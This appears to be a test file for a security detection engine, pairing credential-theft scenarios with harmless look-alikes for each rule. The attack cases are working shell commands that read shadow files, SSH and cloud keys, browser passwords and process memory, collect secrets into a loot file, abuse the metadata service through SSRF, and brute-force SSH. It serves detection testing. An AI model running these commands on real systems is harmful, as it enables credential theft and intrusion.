# Credential access: passwords, keys and tokens that an intruder takes.

#: shadow_file_read attack: cat
cat /etc/shadow

#: shadow_file_read attack: python
python3 -c 'print(open("/etc/shadow").read())'

#: shadow_file_read attack: sudo by alice
#: by alice
sudo head -n 1 /etc/shadow

#: shadow_file_read attack: cat by the name of a program that may
# The name deceives, the executable does not.
ln -s /bin/cat /tmp/sshd
/tmp/sshd /etc/shadow

#: shadow_file_read attack: getent
getent shadow root

#: shadow_file_read attack: perl
perl -e 'print((getpwnam("root"))[1], "\n")'

#: shadow_file_read attack: tar that names it
tar -cf /tmp/x.tar /etc/shadow

#: shadow_file_read harmless: accounts are kept and checked
#: keep file.path == "/etc/shadow" AND event.action == "read"
useradd --create-home bob
echo bob:secret | chpasswd
chage -l bob
pwck -r -q
su bob -c true

#: shadow_file_read harmless: a package keeps an account
#: keep file.path == "/etc/shadow" AND event.action == "read"
mkdir -p /tmp/p/DEBIAN
printf 'Package: p\nVersion: 1\nArchitecture: all\nMaintainer: a <a@b.c>\nDescription: p\n' > /tmp/p/DEBIAN/control
printf '#!/bin/sh\nset -e\ngrep -c "^root:" /etc/shadow\n' > /tmp/p/DEBIAN/postinst
chmod 755 /tmp/p/DEBIAN/postinst
dpkg-deb --build /tmp/p /tmp/p.deb
dpkg -i /tmp/p.deb

#: shadow_file_read harmless: programs in perl look up accounts
#: keep file.path == "/etc/shadow" AND event.action == "read" AND process.executable startswith "/usr/bin/perl"
adduser --quiet --disabled-password --gecos x carol
deluser --quiet carol

#: shadow_file_read harmless: sums and a search over all files of a folder
#: keep file.path == "/etc/shadow" AND event.action == "read"
find /etc -maxdepth 1 -type f -exec md5sum {} + > /dev/null
find /etc -maxdepth 1 -type f -exec grep -l listen {} + > /dev/null

#: shadow_file_read harmless: a backup takes it along
#: keep file.path == "/etc/shadow" AND event.action == "read"
tar -cf /tmp/etc.tar /etc

#: shadow_file_taken_along attack: tar
tar -cf /tmp/etc.tar /etc

#: shadow_file_taken_along attack: grep
grep -rl listen /etc

#: shadow_file_taken_along harmless: an account is kept
#: keep file.path == "/etc/shadow" AND event.action == "read"
usermod --shell /bin/sh alice
tar -cf /tmp/ssh.tar /etc/ssh

#: ssh_private_key_read attack: cat
mkdir -m 700 /root/.ssh
ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_ed25519
cat /root/.ssh/id_ed25519

#: ssh_private_key_read attack: python by alice
#: by alice
mkdir -m 700 ~/.ssh
ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519
python3 -c 'import os; print(open(os.path.expanduser("~/.ssh/id_ed25519")).read())'

#: ssh_private_key_read attack: tar that names the folder
mkdir -m 700 /root/.ssh
ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_ed25519
tar -czf /tmp/keys.tgz -C /root .ssh

#: ssh_private_key_read harmless: ssh and its kin
#: keep file.path == "/home/alice/.ssh/id_ed25519" AND event.action == "read"
#: by alice
mkdir -m 700 ~/.ssh
ssh-keygen -q -t ed25519 -N '' -f ~/.ssh/id_ed25519
ssh-keygen -y -f ~/.ssh/id_ed25519
eval "$(ssh-agent)"
ssh-add ~/.ssh/id_ed25519
ssh-agent -k
cat ~/.ssh/id_ed25519.pub
ssh-copy-id -i ~/.ssh/id_ed25519.pub 127.0.0.1

#: ssh_private_key_read harmless: the public half, and a backup
#: keep file.path glob "/root/.ssh/id_*" AND event.action == "read" AND process.name != "ssh-keygen"
mkdir -m 700 /root/.ssh
ssh-keygen -q -t ed25519 -N '' -f /root/.ssh/id_ed25519
cat /root/.ssh/id_ed25519.pub
tar -cf /tmp/root.tar /root

#: ssh_host_key_read attack: cp
cp /etc/ssh/ssh_host_ed25519_key /tmp/k

#: ssh_host_key_read attack: base64
base64 /etc/ssh/ssh_host_rsa_key

#: ssh_host_key_read harmless: sshd starts, and a fingerprint is shown
#: keep file.path glob "/etc/ssh/ssh_host_*_key" AND event.action == "read"
ssh-keygen -l -f /etc/ssh/ssh_host_ed25519_key
/usr/sbin/sshd -t

#: cloud_credentials_read attack: cat
mkdir /root/.aws
printf '[default]\naws_access_key_id = AKIAIOSFODNN7EXAMPLE\naws_secret_access_key = x\n' > /root/.aws/credentials
cat /root/.aws/credentials

#: cloud_credentials_read attack: curl by alice
#: by alice
mkdir ~/.kube
echo 'apiVersion: v1' > ~/.kube/config
curl -s --max-time 1 --data-binary @"$HOME/.kube/config" http://127.0.0.1:9/

#: cloud_credentials_read attack: python
mkdir -p /root/.config/gcloud
echo '{}' > /root/.config/gcloud/application_default_credentials.json
python3 -c 'open("/root/.config/gcloud/application_default_credentials.json").read()'

#: cloud_credentials_read harmless: a program with the cloud's library, and the tool itself
#: keep file.path glob ["/root/.aws/*", "/root/.kube/*"] AND event.action == "read"
# Neither tool is Debian's: programs of these names, one a script, do what they do.
mkdir /root/.aws /root/.kube
echo '[default]' > /root/.aws/credentials
echo 'apiVersion: v1' > /root/.kube/config
printf '#!/usr/bin/python3\nopen("/root/.aws/credentials").read()\n' > /usr/local/bin/deploy
chmod 755 /usr/local/bin/deploy
/usr/local/bin/deploy
cp /bin/cat /usr/local/bin/kubectl
kubectl /root/.kube/config

#: stored_password_read attack: cat
echo 'https://alice:token@git.example.org' > /root/.git-credentials
cat /root/.git-credentials

#: stored_password_read attack: php by alice
#: by alice
echo 'localhost:*:*:alice:secret' > ~/.pgpass
php -r 'echo file_get_contents(getenv("HOME") . "/.pgpass");'

#: stored_password_read harmless: the tools that the files are for
#: keep file.path glob ["/root/.netrc", "/root/.git-credentials"] AND event.action == "read"
echo 'machine 127.0.0.1 login alice password secret' > /root/.netrc
curl -s --netrc --max-time 1 http://127.0.0.1:9/
echo 'https://alice:token@git.example.org' > /root/.git-credentials
printf 'protocol=https\nhost=git.example.org\n\n' | git -c credential.helper=store credential fill

#: service_reads_credentials attack: apache with a path that leads out
mkdir -m 755 -p /var/www/html /home/alice/.ssh
chmod 755 /home/alice /home/alice/.ssh
echo key > /home/alice/.ssh/id_rsa
chmod 644 /home/alice/.ssh/id_rsa
ln -s /home/alice /var/www/html/files
printf 'ServerName localhost\n' >> /etc/apache2/apache2.conf
apache2ctl start
until ss -ltn | grep -q ':80 '; do sleep 0.02; done
curl -s http://127.0.0.1/files/.ssh/id_rsa
apache2ctl stop

#: service_reads_credentials attack: postgres
su postgres -c '/usr/lib/postgresql/15/bin/initdb -D /tmp/db -A trust' > /dev/null
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -w -D /tmp/db -o "-k /tmp -h 127.0.0.1" -l /tmp/db.log start' > /dev/null
su postgres -c "psql -h 127.0.0.1 -c \"copy (select 1) to program 'cat /home/alice/.bash_history'\""
echo 'rm x' > /home/alice/.bash_history
chmod 755 /home/alice; chmod 644 /home/alice/.bash_history
su postgres -c "psql -h 127.0.0.1 -c \"create table t (x text); copy t from program 'cat /home/alice/.bash_history'\""
su postgres -c '/usr/lib/postgresql/15/bin/pg_ctl -m immediate -D /tmp/db stop' > /dev/null

#: service_reads_credentials harmless: a web server reads its pages and its own key
#: keep event.action == "read" AND process.name == "apache2"
printf 'ServerName localhost\n' >> /etc/apache2/apache2.conf
echo 'hello' > /var/www/html/index.html
a2enmod -q ssl
a2ensite -q default-ssl
apache2ctl start
until ss -ltn | grep -q ':443 '; do sleep 0.02; done
curl -s -k https://127.0.0.1/
apache2ctl stop

#: browser_passwords_read attack: cp by alice
#: by alice
mkdir -p ~/.mozilla/firefox/x.default
echo '{}' > ~/.mozilla/firefox/x.default/logins.json
cp ~/.mozilla/firefox/x.default/logins.json /tmp/

#: browser_passwords_read attack: python
mkdir -p "/home/alice/.config/google-chrome/Default"
echo x > "/home/alice/.config/google-chrome/Default/Login Data"
python3 -c 'open("/home/alice/.config/google-chrome/Default/Login Data").read()'

#: browser_passwords_read harmless: the browser itself, and a backup
#: keep file.path glob "/home/alice/.mozilla/**" AND event.action == "read"
# Firefox is not in this root file system: a copy of cat lies where it would.
mkdir -p /home/alice/.mozilla/firefox/x.default /usr/lib/firefox-esr
echo '{}' > /home/alice/.mozilla/firefox/x.default/logins.json
cp /bin/cat /usr/lib/firefox-esr/firefox-esr
/usr/lib/firefox-esr/firefox-esr /home/alice/.mozilla/firefox/x.default/logins.json
tar -cf /tmp/home.tar /home

#: gpg_keys_read attack: cp
mkdir -m 700 -p /root/.gnupg/private-keys-v1.d
echo x > /root/.gnupg/private-keys-v1.d/0123.key
cp -r /root/.gnupg /tmp/g

#: gpg_keys_read attack: xxd by alice
#: by alice
mkdir -m 700 -p ~/.gnupg/private-keys-v1.d
echo x > ~/.gnupg/private-keys-v1.d/0123.key
xxd ~/.gnupg/private-keys-v1.d/0123.key

#: gpg_keys_read harmless: gpg signs
#: keep file.path glob "/root/.gnupg/private-keys-v1.d/*" AND event.action == "read"
gpg -q --batch --passphrase '' --quick-generate-key a@example.org ed25519 sign
echo x | gpg -q --batch --sign -o /tmp/x.gpg
gpgconf --kill all
echo x | gpg -q --batch --yes --sign -o /tmp/x.gpg
gpgconf --kill all

#: keytab_or_tls_key_read attack: cat
cat /etc/ssl/private/ssl-cert-snakeoil.key

#: keytab_or_tls_key_read attack: base64
printf '\005\002' > /etc/krb5.keytab
base64 /etc/krb5.keytab

#: keytab_or_tls_key_read harmless: a web server starts with its key, and a hook of certbot joins it
#: keep file.path glob ["/etc/ssl/private/*", "/etc/letsencrypt/archive/**"] AND event.action == "read"
# certbot is not in this root file system: a script by its name runs the hook.
printf 'ServerName localhost\n' >> /etc/apache2/apache2.conf
a2enmod -q ssl
a2ensite -q default-ssl
apache2ctl start
until ss -ltn | grep -q ':443 '; do sleep 0.02; done
apache2ctl stop
mkdir -p /etc/letsencrypt/archive/example.org
echo key > /etc/letsencrypt/archive/example.org/privkey1.pem
printf '#!/bin/sh\ncat /etc/letsencrypt/archive/example.org/privkey1.pem > /etc/joined.pem\n' > /usr/local/bin/hook
printf '#!/bin/sh\n/usr/local/bin/hook\n' > /usr/bin/certbot
chmod 755 /usr/local/bin/hook /usr/bin/certbot
certbot renew

#: many_secrets_read attack: a script that takes all
mkdir -p /root/.ssh /root/.aws /root/.kube /root/.docker
for file in .ssh/id_rsa .aws/credentials .kube/config .docker/config.json .git-credentials .bash_history; do
    echo x > "/root/$file"
done
for file in /root/.ssh/id_rsa /root/.aws/credentials /root/.kube/config /root/.docker/config.json /root/.git-credentials /root/.bash_history; do
    [ -r "$file" ] && cat "$file" >> /tmp/loot
done

#: many_secrets_read attack: tar by alice
#: by alice
mkdir -p ~/.ssh ~/.aws ~/.kube ~/.docker ~/.gnupg/private-keys-v1.d
for file in .ssh/id_rsa .aws/credentials .kube/config .docker/config.json .gnupg/private-keys-v1.d/1.key; do
    echo x > ~/"$file"
done
cd && tar -czf /tmp/loot.tgz .ssh .aws .kube .docker .gnupg

#: many_secrets_read harmless: a backup of all homes
#: keep event.action == "read" AND file.path glob "/root/.*/**"
mkdir -p /root/.ssh /root/.aws /root/.kube /root/.docker /root/.gnupg/private-keys-v1.d
for file in .ssh/id_rsa .aws/credentials .kube/config .docker/config.json .gnupg/private-keys-v1.d/1.key; do
    echo x > "/root/$file"
done
tar -czf /tmp/backup.tgz /root /home

#: process_memory_read attack: python with process_vm_readv
sleep 5 &
python3 - $! <<'END'
import ctypes, os, sys
pid = int(sys.argv[1])
start = int(open(f"/proc/{pid}/maps").readline().split("-")[0], 16)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
buffer = ctypes.create_string_buffer(64)
local, remote = Vector(ctypes.addressof(buffer), 64), Vector(start, 64)
print(ctypes.CDLL(None).process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0))
END
kill %1

#: process_memory_read attack: perl by alice
#: by alice
sleep 5 &
sleep 0.05
perl -e '
    my $pid = shift;
    open(my $maps, "<", "/proc/$pid/maps");
    my $start = hex((split(/-/, <$maps>))[0]);
    my $buffer = "x" x 64;
    print syscall(310, $pid + 0, pack("PQ", $buffer, 64), 1, pack("QQ", $start, 64), 1, 0), "\n";
' $!
kill %1

#: process_memory_read harmless: a debugger
#: keep event.action in ["ptrace_attach", "ptrace_seize", "memory_read"] OR (event.action == "exec" AND process.name == "gdb")
sleep 5 &
sleep 0.05
gdb -batch -p $! -ex 'x/4x $sp' -ex detach > /dev/null 2>&1
kill %1

#: memory_dumped_by_debugger attack: gcore
sleep 5 &
sleep 0.05
gcore -o /tmp/core $! > /dev/null 2>&1
ls /tmp
kill %1

#: memory_dumped_by_debugger attack: gdb
sleep 5 &
sleep 0.05
gdb -batch -p $! -ex 'generate-core-file /tmp/core' > /dev/null 2>&1
kill %1

#: memory_dumped_by_debugger harmless: a debugger shows a stack
#: keep event.action == "exec" AND process.name == "gdb"
sleep 5 &
sleep 0.05
gdb -batch -p $! -ex bt > /dev/null 2>&1
kill %1

#: session_traced attack: strace
bash -c 'read -r line < <(sleep 2)' &
sleep 0.05
timeout 0.3 strace -f -e trace=read,write -s 4096 -o /tmp/keys -p $!
kill %1

#: session_traced attack: strace by alice
#: by alice
bash -c 'read -r line < <(sleep 2)' &
sleep 0.05
sudo timeout 0.3 strace -p $! -e read -o /tmp/keys
kill %1

#: session_traced harmless: a program is started under strace, and another is watched for its files
#: keep event.action == "exec" AND process.name == "strace"
strace -e trace=read,write -o /tmp/trace true
sleep 5 &
timeout 0.3 strace -e trace=file -p $!
kill %1

#: packet_capture_started attack: tcpdump
timeout 0.5 tcpdump -i lo -w /tmp/x.pcap -c 1

#: packet_capture_started attack: python
python3 -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))'

#: packet_capture_started harmless: what gives addresses
#: keep event.action == "socket_packet"
# No DHCP client is in this root file system: busybox has one.
timeout 0.3 busybox udhcpc -i lo -n -q -t 1 -T 1 -s /bin/true

#: secrets_searched attack: grep
mkdir -p /opt/shop; echo 'DB_PASS=x' > /opt/shop/.env
grep -rniE 'password|DB_PASS' /opt /home

#: secrets_searched attack: egrep by alice
#: by alice
egrep -rl 'BEGIN (RSA|OPENSSH) PRIVATE KEY' /home 2> /dev/null

#: secrets_searched harmless: a word is looked for in one's own source, and another below /etc
#: keep event.action == "exec" AND process.name == "grep"
mkdir -p /root/src; cd /root/src
echo 'password = ask()' > a.py
grep -rn password .
grep -n password /etc/ssh/sshd_config
grep -r PermitRootLogin /etc/ssh

#: key_files_searched attack: find
find / -xdev -name 'id_rsa*' -o -xdev -name '*.pem' 2> /dev/null | head -n 3

#: key_files_searched attack: find by alice
#: by alice
find /home -name .git-credentials -o -name '.env' 2> /dev/null

#: key_files_searched harmless: files are looked for by date, and names in one's own folder
#: keep event.action == "exec" AND process.name == "find"
find /var/log -name '*.gz' -mtime +30
mkdir -p /root/src; cd /root/src
find . -name '*.pem'
find / -xdev -name core -type f | head -n 1

#: metadata_service_queried attack: curl
ip address add 169.254.169.254/32 dev lo
python3 -c '
import socket
server = socket.create_server(("169.254.169.254", 80))
open("/tmp/ready", "w").close()
while True:
    peer, _ = server.accept()
    peer.recv(4096)
    peer.sendall(b"HTTP/1.0 200 OK\r\n\r\nsecret\n")
    peer.close()
' &
until [ -e /tmp/ready ]; do sleep 0.02; done
curl -s --max-time 2 http://169.254.169.254/latest/meta-data/iam/security-credentials/
kill %1

#: metadata_service_queried attack: bash by alice
#: by alice
sudo ip address add 169.254.169.254/32 dev lo
exec 3<> /dev/tcp/169.254.169.254/80

#: metadata_service_queried attack: python
ip address add 169.254.169.254/32 dev lo
python3 -c 'import socket; socket.create_connection(("169.254.169.254", 80), 1)'

#: metadata_service_queried harmless: the cloud's own agent, and another address of the link
#: keep network.direction == "outbound" AND event.action in ["connection_established", "connection_failed"]
# cloud-init is not in this root file system: a script by its name asks.
ip address add 169.254.169.254/32 dev lo
ip address add 169.254.10.10/32 dev lo
printf '#!/usr/bin/python3\nimport socket\nsocket.socket().connect_ex(("169.254.169.254", 80))\n' > /usr/bin/cloud-init
chmod 755 /usr/bin/cloud-init
cloud-init init
curl -s --max-time 1 http://169.254.10.10/

#: ssrf attack: a page of php
ip address add 169.254.169.254/32 dev lo
python3 -c '
import socket
server = socket.create_server(("169.254.169.254", 80))
open("/tmp/ready", "w").close()
while True:
    peer, _ = server.accept()
    peer.recv(4096)
    peer.sendall(b"HTTP/1.0 200 OK\r\n\r\nsecret\n")
    peer.close()
' &
until [ -e /tmp/ready ]; do sleep 0.02; done
mkdir -p /usr/lib/cgi-bin
printf '#!/usr/bin/php\n<?php parse_str(getenv("QUERY_STRING"), $query);\necho "Content-Type: text/plain\\r\\n\\r\\n", file_get_contents($query["url"]);\n' > /usr/lib/cgi-bin/fetch
chmod 755 /usr/lib/cgi-bin/fetch
echo 'ServerName localhost' >> /etc/apache2/apache2.conf
a2enmod -q cgid
echo 'Listen 127.0.0.1:80' > /etc/apache2/ports.conf
apache2ctl start
until ss -ltn | grep -q '127.0.0.1:80 '; do sleep 0.02; done
for path in latest/meta-data/ latest/meta-data/iam/security-credentials/ latest/meta-data/iam/security-credentials/shop; do
    curl -s --max-time 5 "http://127.0.0.1/cgi-bin/fetch?url=http://169.254.169.254/$path"
done
apache2ctl stop
kill %1

#: ssrf attack: apache as a proxy
ip address add 169.254.169.254/32 dev lo
a2enmod -q proxy_http
printf 'ServerName localhost\nProxyPass /fetch http://169.254.169.254/ disablereuse=On retry=0\n' >> /etc/apache2/apache2.conf
echo 'Listen 127.0.0.1:80' > /etc/apache2/ports.conf
apache2ctl start
until ss -ltn | grep -q '127.0.0.1:80 '; do sleep 0.02; done
for path in a b c; do
    curl -s --max-time 5 -o /dev/null "http://127.0.0.1/fetch/latest/$path"
done
apache2ctl stop

#: ssrf harmless: a service looks up its region once, and an administrator asks often
#: keep network.direction == "outbound" AND destination.ip == 169.254.169.254 AND event.action in ["connection_established", "connection_failed"]
ip address add 169.254.169.254/32 dev lo
mkdir -p /usr/lib/cgi-bin
printf '#!/bin/sh\necho "Content-Type: text/plain"\necho\ncurl -s --max-time 1 http://169.254.169.254/latest/meta-data/placement/region\n' > /usr/lib/cgi-bin/region
chmod 755 /usr/lib/cgi-bin/region
echo 'ServerName localhost' >> /etc/apache2/apache2.conf
a2enmod -q cgid
echo 'Listen 127.0.0.1:80' > /etc/apache2/ports.conf
apache2ctl start
until ss -ltn | grep -q '127.0.0.1:80 '; do sleep 0.02; done
curl -s http://127.0.0.1/cgi-bin/region
apache2ctl stop
for count in 1 2 3; do
    curl -s --max-time 1 http://169.254.169.254/latest/meta-data/
done

#: password_store_dumped attack: john
# Not Debian's, or large: a copy of true under its name.
cp /bin/true /usr/local/bin/john
john /tmp/hashes

#: password_store_dumped attack: mimipenguin
printf '#!/bin/sh\ntrue\n' > /tmp/mimipenguin.sh
bash /tmp/mimipenguin.sh

#: password_store_dumped harmless: a server of a like name
#: keep event.action == "exec" AND process.name == "hydra"
# ORY Hydra is not in Debian: a script has its name.
printf '#!/bin/sh\n' > /usr/local/bin/hydra
chmod +x /usr/local/bin/hydra
hydra serve all --dev
hydra create client --endpoint http://127.0.0.1:4445

#: password_store_dumped harmless: programs of like names
#: keep event.action == "exec" AND process.name in ["johnny", "hash", "openssl"]
cp /bin/true /usr/local/bin/johnny
johnny
openssl passwd -6 secret

#: failed_auth_spike attack: sshpass from many addresses
printf 'module(load="imuxsock")\nauth,authpriv.* /srv/followed/auth.log\n' > /etc/rsyslog.conf
rsyslogd
/usr/sbin/sshd -o ListenAddress=203.0.113.5 -o MaxStartups=100
until [ -S /dev/log ] && ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
for number in {1..20}; do
    ip address add 198.51.100.$((number + 100))/32 dev lo
    sshpass -p guess ssh -b 198.51.100.$((number + 100)) -o StrictHostKeyChecking=no -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no alice@203.0.113.5 true 2> /dev/null &
done
wait $(jobs -p)

#: failed_auth_spike attack: su by alice
#: by alice
#: patience 20
printf 'module(load="imuxsock")\nauth,authpriv.* /srv/followed/auth.log\n' | sudo tee /etc/rsyslog.conf > /dev/null
sudo rsyslogd
until [ -S /dev/log ]; do sleep 0.02; done
for number in {1..24}; do
    echo "guess$number" | su -c true 2> /dev/null &
done
wait $(jobs -p)

#: failed_auth_spike harmless: a dozen of people mistype
#: keep event.outcome == "failure"
printf 'module(load="imuxsock")\nauth,authpriv.* /srv/followed/auth.log\n' > /etc/rsyslog.conf
rsyslogd
/usr/sbin/sshd -o ListenAddress=203.0.113.5 -o MaxStartups=100
until [ -S /dev/log ] && ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
for number in {1..12}; do
    ip address add 198.51.100.$((number + 130))/32 dev lo
    sshpass -p guess ssh -b 198.51.100.$((number + 130)) -o StrictHostKeyChecking=no -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no alice@203.0.113.5 true 2> /dev/null &
done
wait $(jobs -p)

#: brute_force attack: sshpass
ip address add 198.51.100.41/32 dev lo
printf 'module(load="imuxsock")\nauth,authpriv.* /srv/followed/auth.log\n' > /etc/rsyslog.conf
rsyslogd
/usr/sbin/sshd -o ListenAddress=203.0.113.5 -o MaxStartups=100
until [ -S /dev/log ] && ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
for number in {1..10}; do
    sshpass -p "guess$number" ssh -b 198.51.100.41 -o StrictHostKeyChecking=no -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no alice@203.0.113.5 true 2> /dev/null &
done
wait $(jobs -p)

#: brute_force attack: ssh as nobody that exists
ip address add 198.51.100.42/32 dev lo
busybox syslogd -O /srv/followed/auth.log
/usr/sbin/sshd -o ListenAddress=203.0.113.5 -o MaxStartups=100
until [ -S /dev/log ] && ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
printf '#!/bin/sh\necho guess\n' > /tmp/answer
chmod 755 /tmp/answer
export SSH_ASKPASS=/tmp/answer SSH_ASKPASS_REQUIRE=force
for number in {1..10}; do
    ssh -b 198.51.100.42 -o StrictHostKeyChecking=no -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no "user$number@203.0.113.5" true 2> /dev/null &
done
wait $(jobs -p)

#: brute_force harmless: somebody mistypes a password and is let in then
#: keep event.outcome in ["failure", "success"]
ip address add 198.51.100.43/32 dev lo
printf 'module(load="imuxsock")\nauth,authpriv.* /srv/followed/auth.log\n' > /etc/rsyslog.conf
rsyslogd
/usr/sbin/sshd -o ListenAddress=203.0.113.5 -o MaxStartups=100
until [ -S /dev/log ] && ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
echo alice:right | chpasswd
for password in rigth roght rihgt right; do
    sshpass -p $password ssh -b 198.51.100.43 -o StrictHostKeyChecking=no -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no alice@203.0.113.5 true 2> /dev/null
done

#: password_guessed attack: sshpass
ip address add 198.51.100.44/32 dev lo
printf 'module(load="imuxsock")\nauth,authpriv.* /srv/followed/auth.log\n' > /etc/rsyslog.conf
rsyslogd
/usr/sbin/sshd -o ListenAddress=203.0.113.5 -o MaxStartups=100
until [ -S /dev/log ] && ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
echo alice:right | chpasswd
for number in {1..6}; do
    sshpass -p "guess$number" ssh -b 198.51.100.44 -o StrictHostKeyChecking=no -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no alice@203.0.113.5 true 2> /dev/null &
done
wait $(jobs -p)
sshpass -p right ssh -b 198.51.100.44 -o StrictHostKeyChecking=no -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no alice@203.0.113.5 true

#: password_guessed attack: python drives ssh
ip address add 198.51.100.45/32 dev lo
busybox syslogd -O /srv/followed/auth.log
/usr/sbin/sshd -o ListenAddress=203.0.113.5 -o MaxStartups=100
until [ -S /dev/log ] && ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
echo alice:right | chpasswd
printf '#!/bin/sh\necho "$GUESS"\n' > /tmp/answer
chmod 755 /tmp/answer
python3 -c '
import os, subprocess
ssh = "ssh -b 198.51.100.45 -o StrictHostKeyChecking=no -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no alice@203.0.113.5 true".split()
def guess(word):
    return subprocess.Popen(ssh, env=dict(os.environ, GUESS=word, SSH_ASKPASS="/tmp/answer", SSH_ASKPASS_REQUIRE="force"))
for one in [guess(word) for word in ["a", "b", "c", "d", "e"]]:
    one.wait()
guess("right").wait()
' 2> /dev/null

#: password_guessed harmless: a password that was mistyped three times
#: keep event.outcome in ["failure", "success"]
ip address add 198.51.100.46/32 dev lo
printf 'module(load="imuxsock")\nauth,authpriv.* /srv/followed/auth.log\n' > /etc/rsyslog.conf
rsyslogd
/usr/sbin/sshd -o ListenAddress=203.0.113.5 -o MaxStartups=100
until [ -S /dev/log ] && ss -ltn | grep -q '203.0.113.5:22 '; do sleep 0.02; done
echo alice:right | chpasswd
for number in {1..3}; do
    sshpass -p "guess$number" ssh -b 198.51.100.46 -o StrictHostKeyChecking=no -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no alice@203.0.113.5 true 2> /dev/null &
done
wait $(jobs -p)
sshpass -p right ssh -b 198.51.100.46 -o StrictHostKeyChecking=no -o NumberOfPasswordPrompts=1 -o PubkeyAuthentication=no alice@203.0.113.5 true
